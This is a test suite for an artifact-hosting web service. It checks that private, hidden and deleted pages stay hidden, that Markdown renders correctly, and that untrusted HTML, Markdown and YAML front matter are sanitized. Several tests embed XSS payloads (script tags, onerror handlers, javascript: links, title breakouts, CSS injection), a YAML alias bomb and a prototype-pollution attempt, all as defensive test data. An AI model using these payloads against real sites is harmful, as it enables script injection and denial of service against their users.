        // Paths that cannot name an artifact get the same HTML 404: a NUL byte, an empty or nested path, a
        // slug too long for a route parameter, bytes that are not UTF-8.
        const odd = yield* Effect.forEach(
          [
            "/a/x%00y",
            "/a/",
            "/a",
            "/a/x/y",
            "/a/%FF",
            "/artifacts/",
            "/artifacts",
            "/artifacts/a/b",
            `/a/${"x".repeat(300)}`
          ],
          notFound
        )
        for (const body of odd) expect(body).toBe(missing)
      }))

    it.scoped("content that is not viewable is 404 with exactly the body of a missing artifact", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const missing = yield* missingBody
        const owner = yield* agent
        const open = yield* dockOf(owner.client)
        const closed = yield* dockOf(owner.client, "private")
        const expectHidden = (part: { id: string; public_slug: string }) =>
          Effect.forEach(
            pathsOf(part),
            (path) => Effect.map(notFound(path), (body) => expect(body, path).toBe(missing))
          )
        const expectShown = (part: { id: string; public_slug: string }, text: string) =>
          Effect.forEach(
            pathsOf(part),
            (path) => Effect.map(served(path), (document) => expect(document.main).toContain(text))
          )

        // a page of a private Dock
        const inPrivate = yield* push(owner.client, "push_web_page", {
          bucket: closed.id,
          page_slug: "closed",
          page_content: "<p>private-dock-text</p>"
        })
        yield* expectHidden(inPrivate.part)

        // a page marked private in a public Dock
        const marked = yield* push(owner.client, "push_web_page", {
          bucket: open.id,
          page_slug: "marked",
          page_content: "<p>marked-text</p>"
        })
        yield* expectShown(marked.part, "marked-text")
        yield* server.sql`update parts set visibility = 'private' where id = ${marked.part.id}`
        yield* expectHidden(marked.part)

        // a sandbox's page
        const registration = yield* register(server.url)
        expect(registration.status, registration.text).toBe(201)
        const sandbox = yield* connect(registration.json.credential as string, MODERN)
        const sandboxed = yield* push(sandbox, "push_web_page", {
          page_slug: "sandboxed",
          page_content: "<p>sandbox-text</p>"
        })
        expect(sandboxed.part.bucket_id).toBe(registration.json.sandbox_bucket.id)
        yield* expectHidden(sandboxed.part)

        // a page of a hidden Dock
        const hiddenDock = yield* dockOf(owner.client)
        const inHidden = yield* push(owner.client, "push_web_page", {
          bucket: hiddenDock.id,
          page_slug: "hidden",
          page_content: "<p>hidden-text</p>"
        })
        yield* expectShown(inHidden.part, "hidden-text")
        yield* server.sql`update docks set hidden_at = now() where id = ${hiddenDock.id}`
        yield* expectHidden(inHidden.part)

        // a deleted page
        const deleted = yield* push(owner.client, "push_web_page", {
          bucket: open.id,
          page_slug: "gone",
          page_content: "<p>gone-text</p>"
        })
        yield* expectShown(deleted.part, "gone-text")
        expect(ok(yield* call(owner.client, "delete_web_page", { bucket: open.id, web_page: deleted.part.id })))
          .toEqual({ ok: true })
        yield* expectHidden(deleted.part)

        // a page of a Dock that was public, then made private
        const turned = yield* dockOf(owner.client)
        const inTurned = yield* push(owner.client, "push_web_page", {
          bucket: turned.id,
          page_slug: "turned",
          page_content: "<p>turned-text</p>"
        })
        yield* expectShown(inTurned.part, "turned-text")
        ok(yield* call(owner.client, "update_bucket", { bucket: turned.id, visibility: "private" }))
        yield* expectHidden(inTurned.part)

        // none of them says anything of the hidden content
        for (
          const text of ["private-dock-text", "marked-text", "sandbox-text", "hidden-text", "gone-text", "turned-text"]
        ) {
          expect(missing).not.toContain(text)
        }
      }))

    it.scoped("a standalone artifact (push_markdown with no Dock) is served at /a/ and /artifacts/", () =>
      Effect.gen(function*() {
        const owner = yield* agent
        const loose = yield* push(owner.client, "push_markdown", {
          page_content: "# Loose thoughts\n\nStanding *alone*."
        })
        expect(loose.part.bucket_id).toBeNull()
        const documents = yield* Effect.forEach(pathsOf(loose.part), served)
        for (const document of documents) {
          expect(document.text).toBe(documents[0]!.text)
          expect(document.title).toBe("Loose thoughts")
          expect(document.main).toContain("<h1>Loose thoughts</h1>")
          expect(document.main).toContain("<p>Standing <em>alone</em>.</p>")
          expect(document.footer).toBe(yield* footerFor(loose.part.id, 1, `${owner.label} (${owner.user.username})`))
        }
      }))

    it.scoped("Markdown is rendered when read: wikilinks resolve once their page exists, never into a private Dock; front matter is hidden; GFM renders", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* agent
        const dock = yield* dockOf(owner.client)
        const other = yield* agent
        const theirPrivate = yield* dockOf(other.client, "private")
        const theirPublic = yield* dockOf(other.client)
        const secret = yield* push(other.client, "push_markdown", {
          bucket: theirPrivate.id,
          page_slug: "secret",
          page_content: "# Secret"
        })
        const open = yield* push(other.client, "push_markdown", {
          bucket: theirPublic.id,
          page_slug: "open",
          page_content: "# Open"
        })
        const privatePath = `${other.user.username}/${theirPrivate.slug}/secret`
        const publicPath = `${other.user.username}/${theirPublic.slug}/open`

        // a page marked private in this public Dock, and a page of a hidden Dock: neither is a link target on /a/
        const marked = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "marked",
          page_content: "# Marked"
        })
        yield* server.sql`update parts set visibility = 'private' where id = ${marked.part.id}`
        const hiddenDock = yield* dockOf(owner.client)
        const inHidden = yield* push(owner.client, "push_markdown", {
          bucket: hiddenDock.id,
          page_slug: "shelved",
          page_content: "# Shelved"
        })
        yield* server.sql`update docks set hidden_at = now() where id = ${hiddenDock.id}`
        const hiddenPath = `${owner.user.username}/${hiddenDock.slug}/shelved`

        const a = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "alpha",
          page_content: `# Alpha\n\nSee [[Beta]], [[${privatePath}]] and [[${publicPath}|their open page]].\n\n` +
            `Also [[marked]] and [[${hiddenPath}]].\n`
        })
        const before = yield* served(`/a/${a.part.public_slug}`)
        expect(before.main).toContain(`<span class="wikilink-unresolved">Beta</span>`)
        expect(before.main).toContain(`<span class="wikilink-unresolved">${privatePath}</span>`)
        expect(before.main).toMatch(new RegExp(`<a [^>]*href="/a/${open.part.public_slug}"[^>]*>their open page</a>`))
        expect(before.main).not.toContain(secret.part.public_slug)
        expect(before.main).toContain(`<span class="wikilink-unresolved">marked</span>`)
        expect(before.main).toContain(`<span class="wikilink-unresolved">${hiddenPath}</span>`)
        for (const slug of [marked.part.public_slug, inHidden.part.public_slug]) {
          expect(before.main).not.toContain(slug)
        }
        // the owner of the private Dock does read the page it links to; the anonymous reader of /a/ does not
        expect(ok(yield* call(other.client, "get_web_page", { bucket: theirPrivate.id, web_page: "secret" })).part.id)
          .toBe(secret.part.id)

        const b = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "beta",
          page_content: "# Beta\n\nHello."
        })
        const after = yield* served(`/a/${a.part.public_slug}`)
        expect(after.main).toMatch(new RegExp(`<a [^>]*href="/a/${b.part.public_slug}"[^>]*>Beta</a>`))
        expect(after.main).toContain(LINK_REL)
        expect(after.main).not.toContain(`<span class="wikilink-unresolved">Beta</span>`)
        expect(after.main).toContain(`<span class="wikilink-unresolved">${privatePath}</span>`)
        expect(after.main).not.toContain(secret.part.public_slug)
        // A itself did not change: same version, same footer
        expect(after.footer).toBe(before.footer)
        expect(after.footer.startsWith("Version 1, ")).toBe(true)
        const row = yield* server.sql<{ version: number }>`select version from parts where id = ${a.part.id}`
        expect(row[0]!.version).toBe(1)
        // by UUID the same
        expect((yield* served(`/artifacts/${a.part.id}`)).main).toBe(after.main)

        // front matter is data, not body
        const withFm = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_content: [
            "---",
            "title: Front matter title",
            "slug: fm-page",
            "secret_field: fm-hidden-value",
            "tags: [fm-tag]",
            "---",
            "Body after front matter.",
            ""
          ].join("\n")
        })
        const fm = yield* served(`/a/${withFm.part.public_slug}`)
        expect(fm.title).toBe("Front matter title")
        expect(fm.main).toBe("<p>Body after front matter.</p>")
        for (const text of ["secret_field", "fm-hidden-value", "fm-tag", "---"]) expect(fm.main).not.toContain(text)

        // GFM: tables, strikethrough, task lists
        const gfm = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "gfm",
          page_content: [
            "| Name | Count |",
            "| :--- | ----: |",
            "| ropes | 3 |",
            "",
            "This is ~~gone~~ now.",
            "",
            "- [x] done item",
            "- [ ] open item",
            ""
          ].join("\n")
        })
        const table = (yield* served(`/a/${gfm.part.public_slug}`)).main
        expect(table).toMatch(
          /<table>\s*<thead>\s*<tr>\s*<th align="left">Name<\/th>\s*<th align="right">Count<\/th>\s*<\/tr>\s*<\/thead>/
        )
        expect(table).toMatch(
          /<tbody>\s*<tr>\s*<td align="left">ropes<\/td>\s*<td align="right">3<\/td>\s*<\/tr>\s*<\/tbody>\s*<\/table>/
        )
        expect(table).toContain("<p>This is <del>gone</del> now.</p>")
        const items = [...table.matchAll(/<li class="task-list-item">(<input [^>]*>) ([a-z ]+)<\/li>/g)]
        expect(items.map(([, , text]) => text)).toEqual(["done item", "open item"])
        const inputs = items.map(([, input]) => tokenize(input!).tags[0]!.attributes.map(([name]) => name).sort())
        expect(inputs).toEqual([["checked", "disabled", "type"], ["disabled", "type"]])
        expectClean(table)
      }))

    // -------------------------------------------------------------------------------------------------------------
    // security.md "Untrusted content", one test per family

    for (const family of FAMILIES) {
      it.scoped(`untrusted content, ${family.name}: clean on /a/ from push_web_page and push_markdown`, () =>
        Effect.gen(function*() {
          const owner = yield* agent
          const dock = yield* dockOf(owner.client)
          const html = yield* push(owner.client, "push_web_page", {
            bucket: dock.id,
            page_slug: "attack-html",
            page_title: "Attack",
            page_content: family.html
          })
          const markdown = yield* push(owner.client, "push_markdown", {
            bucket: dock.id,
            page_slug: "attack-md",
            page_title: "Attack",
            page_content: family.markdown
          })
          for (
            const [kind, part, survives] of [
              ["html", html.part, family.htmlSurvives],
              ["markdown", markdown.part, family.markdownSurvives]
            ] as const
          ) {
            const document = yield* served(`/a/${part.public_slug}`)
            expect(unsafeParts(document.main), `${kind}:\n${document.main}`).toEqual([])
            expect(document.main).not.toMatch(/<script/i)
            // outside quoted attribute values, no `on…=` in any tag
            expect(document.main.replace(/"[^"]*"/g, "\"\"")).not.toMatch(/<[^>]*[\s/]on[a-z]+\s*=/i)
            for (const text of survives) expect(document.main, `${kind}: ${text}`).toContain(text)
            family.also?.(document.main, kind)
            // the whole document too: nothing outside <main> but the server's own head and footer
            expect(unsafeParts(document.text.slice(document.text.indexOf("<body>")))).toEqual([])
          }
        }))
    }

    it.scoped("untrusted content, YAML front matter: a title or summary that breaks out of <title> or attributes stays text; ---js, __proto__ and alias bombs are refused", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* agent
        const dock = yield* dockOf(owner.client)
        const title = `</title><script>alert(1)</script><title>`
        const page = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "fm-breakout",
          page_content: [
            "---",
            `title: "${title.replaceAll("\"", "\\\"")}"`,
            `summary: '<img src=x onerror=alert(2)>" onload="alert(3)'`,
            `description: "'><svg onload=alert(4)>"`,
            "---",
            "fm-breakout-body",
            ""
          ].join("\n")
        })
        expect(page.part.title).toBe(title)
        const document = yield* served(`/a/${page.part.public_slug}`)
        expect(decodeEntities(document.title)).toBe(title)
        expect(document.title).not.toMatch(/[<>"']/)
        const head = document.text.slice(0, document.text.indexOf("<body>"))
        expect(head.match(/<title>/g)).toHaveLength(1)
        expect(head).not.toMatch(/<script|<img|<svg/i)
        expect(document.main).toBe("<p>fm-breakout-body</p>")
        expect(unsafeParts(document.text.slice(document.text.indexOf("<body>")))).toEqual([])
        expect(document.text).not.toMatch(/onerror|onload/)

        // front matter that is not YAML, pollutes prototypes or is an alias bomb is refused, and nothing is stored
        const aliasBomb = ["---", `a: &a ["x","x","x","x","x","x","x","x","x"]`]
        for (
          const [name, previous] of [
            ["b", "a"],
            ["c", "b"],
            ["d", "c"],
            ["e", "d"],
            ["f", "e"],
            ["g", "f"],
            ["h", "g"],
            ["i", "h"]
          ]
        ) {
          aliasBomb.push(`${name}: &${name} [${Array(9).fill(`*${previous}`).join(",")}]`)
        }
        aliasBomb.push("title: bomb", "---", "body")
        for (
          const content of [
            "---js\ntitle: x\n---\nbody",
            "---\n__proto__:\n  polluted: yes\ntitle: proto\n---\nbody",
            aliasBomb.join("\n")
          ]
        ) {
          expect(refused(yield* call(owner.client, "push_markdown", { bucket: dock.id, page_content: content })).error)
            .toMatchObject({ code: "invalid_front_matter", status: 400 })
        }
        expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined()
        const stored = yield* server.sql<{ n: number }>`select count(*)::int as n from parts where dock_id = ${dock.id}`
        expect(stored[0]!.n).toBe(1)
      }))

    it.effect("the body checker these tests rely on flags what it must (and passes what is safe)", () =>
      Effect.sync(() => {
        expect(unsafeParts(`<p>ok <a href="https://x.example/" rel="noopener noreferrer nofollow ugc">x</a></p>`))
          .toEqual([])
        expect(unsafeParts(`<img src="https://x.example/a.png" alt="a" />`)).toEqual([])
        expect(unsafeParts(`<style>p{color:red;}</style><p style="color:red">x</p>`)).toEqual([])
        for (
          const bad of [
            `<script>1</script>`,
            `<img src="x" onerror="1" />`,
            `<img src=x OnError=1>`,
            `<a href="&#106;avascript:1" rel="noopener noreferrer nofollow ugc">x</a>`,
            `<a href="java&#x09;script:1" rel="noopener noreferrer nofollow ugc">x</a>`,
            `<a href=" vbscript:1" rel="noopener noreferrer nofollow ugc">x</a>`,
            `<img src="data:text/html,x" />`,
            `<iframe src="https://x.example/"></iframe>`,
            `<svg></svg>`,
            `<p style="background:url(https://x.example/t.png)">x</p>`,
            `<p style="width:expression(1)">x</p>`,
            `<style>@import "https://x.example/x.css";</style>`,
            `<style>p{background:\\75rl(https://x.example/)}</style>`,
            `<style>p{position:fixed}</style>`,
            `<form action="https://x.example/"></form>`,
            `<input name="q" />`,
            `<p id="config">x</p>`,
            `<a href="https://x.example/">no rel</a>`,
            `<!--><img src=x onerror=1>-->`,
            `<p>text<`.concat("img src=x")
          ]
        ) {
          expect(unsafeParts(bad), bad).not.toEqual([])
        }
      }))

    // -------------------------------------------------------------------------------------------------------------
    // content planted in the database

    it.scoped("HTML planted in the database comes out clean through /a/, /artifacts/, get_web_page, get_web_page_version and restore", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* agent
        const dock = yield* dockOf(owner.client)
        const page = yield* push(owner.client, "push_web_page", {
          bucket: dock.id,
          page_slug: "planted",
          page_content: "<p>clean first version</p>"
        })
        const planted =
          `<img src=x onerror=alert(1)><script>alert(2)</script><a href="javascript:alert(3)">planted-link</a>` +
          `<p>planted-safe</p>`
        yield* server
          .sql`insert into part_versions (part_id, version, title, summary, content_type, content, size_bytes,
          user_id, agent_label, reason, created_at)
        values (${page.part.id}, 2, 'planted', '', 'html', ${planted}, ${planted.length}, ${owner.user.id}, 'planter',
          'updated', now())`
        yield* server.sql`update parts set content = ${planted}, version = 2, size_bytes = ${planted.length}
        where id = ${page.part.id}`

        const expectCleanPlanted = (html: string) => {
          expectClean(html)
          expect(html).not.toContain("alert")
          expect(html).toContain("planted-link")
          expect(html).toContain("<p>planted-safe</p>")
        }
        for (const path of pathsOf(page.part)) {
          const document = yield* served(path)
          expectCleanPlanted(document.main)
          expect(document.footer.startsWith(`Version 2, written by planter (${owner.user.username}) on `)).toBe(true)
        }
        const native = ok(yield* call(owner.client, "get_web_page", { bucket: dock.id, web_page: page.part.id }))
        expect(native.part.version).toBe(2)
        expectCleanPlanted(native.part.content)
        const version = ok(
          yield* call(owner.client, "get_web_page_version", { bucket: dock.id, web_page: "planted", version: 2 })
        )
        expect(version.version).toBe(2)
        expectCleanPlanted(version.content)

        const restored = ok(
          yield* call(owner.client, "restore_web_page_version", { bucket: dock.id, web_page: "planted", version: 2 })
        )
        expect(restored.part).toMatchObject({ id: page.part.id, version: 3 })
        const stored = yield* server.sql<{ content: string; version: number }>`select content, version from parts
        where id = ${page.part.id}`
        expect(stored[0]!.version).toBe(3)
        expectCleanPlanted(stored[0]!.content)
        const storedVersion = yield* server.sql<
          { content: string; reason: string; restored_from: number }
        >`select content,
          reason, restored_from from part_versions where part_id = ${page.part.id} and version = 3`
        expect(storedVersion[0]).toMatchObject({ reason: "restored", restored_from: 2 })
        expectCleanPlanted(storedVersion[0]!.content)
        expectCleanPlanted(
          ok(yield* call(owner.client, "get_web_page", { bucket: dock.id, web_page: page.part.id })).part.content
        )
        expectCleanPlanted((yield* served(`/a/${page.part.public_slug}`)).main)
      }))

    it.scoped("raw HTML planted in a Markdown page's content is served only as the sanitizer keeps it on /a/ and /artifacts/", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* agent
        const dock = yield* dockOf(owner.client)
        const file = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "md-planted",
          page_content: "# Planted\n\nFirst."
        })
        const planted = [
          "# Planted",
          "",
          "<script>alert(1)</script>",
          "",
          "<img src=x onerror=alert(2)>",
          "",
          "[md-planted-link](javascript:alert(3))",
          "",
          `<a href="javascript:alert(4)">raw-link</a> md-planted-safe`,
          ""
        ].join("\n")
        yield* server
          .sql`insert into part_versions (part_id, version, title, summary, content_type, content, size_bytes,
          user_id, reason, created_at)
        values (${file.part.id}, 2, 'Planted', '', 'markdown', ${planted}, ${planted.length}, ${owner.user.id}, 'updated', now())`
        yield* server.sql`update parts set content = ${planted}, version = 2, size_bytes = ${planted.length}
        where id = ${file.part.id}`

        // the Markdown tools give the document back as it is stored: Markdown source is data, not HTML
        const listed = ok(yield* call(owner.client, "list_markdown_files", { bucket: dock.id })).parts
        expect(listed.map((part: any) => [part.id, part.version])).toEqual([[file.part.id, 2]])
        const got = ok(yield* call(owner.client, "get_markdown_file", { bucket: dock.id, markdown_file: file.part.id }))
        expect(got.part.content).toBe(planted)

        for (const path of pathsOf(file.part)) {
          const document = yield* served(path)
          expectClean(document.main)
          expect(document.main).not.toContain("alert")
          // raw HTML in Markdown meets the one sanitizer: the image stays, its handler goes
          expect(document.main).toContain(`<img src="x" />`)
          expect(document.main).toContain("<h1>Planted</h1>")
          expect(document.main).toContain("md-planted-link")
          expect(document.main).toContain("md-planted-safe")
          expect(document.main).not.toMatch(/<a\s[^>]*href/)
          expect(document.main).toContain("raw-link")
        }
      }))

    // -------------------------------------------------------------------------------------------------------------
    // tenancy

    it.scoped("two users: B never sees A's private page on /a/ while A reads it over MCP; once A's Dock is public, anyone does", () =>
      Effect.gen(function*() {
        const a = yield* actor(MODERN)
        const b = yield* actor(MODERN)
        const missing = yield* missingBody
        const dock = yield* dockOf(a.client, "private")
        const page = yield* push(a.client, "push_web_page", {
          bucket: dock.id,
          page_slug: "diary",
          page_content: "<p>a-diary-text</p>"
        })

        for (const path of pathsOf(page.part)) {
          expect(yield* notFound(path)).toBe(missing)
          // B's token changes nothing on a browser route
          const withToken = yield* get(path, bearer(b.token))
          expect(withToken.status).toBe(404)
          expectArtifactHeaders(withToken)
          expect(withToken.text).toBe(missing)
        }
        expect(ok(yield* call(a.client, "get_web_page", { bucket: dock.id, web_page: page.part.id })).part.content)
          .toBe(
            "<p>a-diary-text</p>"
          )
        expect(refused(yield* call(b.client, "get_web_page", { bucket: dock.id, web_page: page.part.id })).error)
          .toMatchObject({
            code: "not_found",
            status: 404
          })

        ok(yield* call(a.client, "update_bucket", { bucket: dock.id, visibility: "public" }))
        for (const path of pathsOf(page.part)) {
          expect((yield* served(path)).main).toBe("<p>a-diary-text</p>")
        }
      }))
  }
)
